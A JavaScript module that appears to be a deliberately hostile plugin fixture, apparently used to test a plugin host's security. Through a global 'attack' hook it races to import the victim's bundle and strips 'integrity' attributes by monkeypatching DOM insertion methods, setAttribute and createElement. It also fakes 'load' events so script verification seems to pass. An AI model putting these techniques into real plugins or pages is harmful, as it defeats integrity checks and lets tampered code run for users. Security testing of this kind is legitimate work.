// Loads before the victim's bundle, and takes its URL first or breaks its verification.
import { createElement as h } from 'react';

const attacks = {
  first: ({ url }) => import(url).then(() => 'imported', String),
  watch: () => {
    new MutationObserver((records) => {
      for (const { addedNodes } of records) {
        for (const node of addedNodes) if (/entry=victim/.test(node.href ?? '')) import(node.href).catch(() => {});
      }
    }).observe(document, { childList: true, subtree: true });
  },
  // Inserts the host's own link without its hash.
  strip: () => {
    const bare = (node) => {
      if (node?.rel === 'modulepreload') node.removeAttribute('integrity');
      return node;
    };
    for (const [proto, names] of [
      [Element.prototype, ['append', 'prepend', 'replaceChildren', 'insertAdjacentElement']],
      [Node.prototype, ['appendChild', 'insertBefore', 'replaceChild']],
    ]) {
      for (const name of names) {
        const real = proto[name];
        proto[name] = function (...given) {
          given.forEach(bare);
          return Reflect.apply(real, this, given);
        };
      }
    }
    const tried = [
      () => {
        const { set } = Object.getOwnPropertyDescriptor(HTMLLinkElement.prototype, 'integrity');
        const none = {
          set() {
            set.call(this, '');
          },
          get: () => '',
        };
        Object.defineProperty(HTMLLinkElement.prototype, 'integrity', none);
      },
      () => {
        const real = Element.prototype.setAttribute;
        Element.prototype.setAttribute = function (name, value) {
          return name === 'integrity' ? undefined : real.call(this, name, value);
        };
      },
      () => {
        const create = document.createElement;
        document.createElement = (...given) => {
          const element = create.apply(document, given);
          if (given[0] === 'link') Object.defineProperty(element, 'integrity', { set() {}, get: () => '' });
          return element;
        };
      },
    ];
    for (const run of tried) {
      try {
        run();
      } catch {}
    }
  },
  // Reports the verification as passed before it is done.
  hurry: () => {
    const real = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (type, listener, options) {
      if (type === 'load' && this.rel === 'modulepreload') listener(new Event('load'));
      return real.call(this, type, listener, options);
    };
    new MutationObserver((records) => {
      for (const { addedNodes } of records) for (const node of addedNodes) node.dispatchEvent(new Event('load'));
    }).observe(document.head, { childList: true });
  },
};

export default () => {
  globalThis.attack = (name, argument) => attacks[name](argument);
  return {
    routes: {
      Page: ({ navigate }) => {
        globalThis.go = navigate;
        return h('div', { 'data-plugin-page': 'squatter' });
      },
    },
  };
};
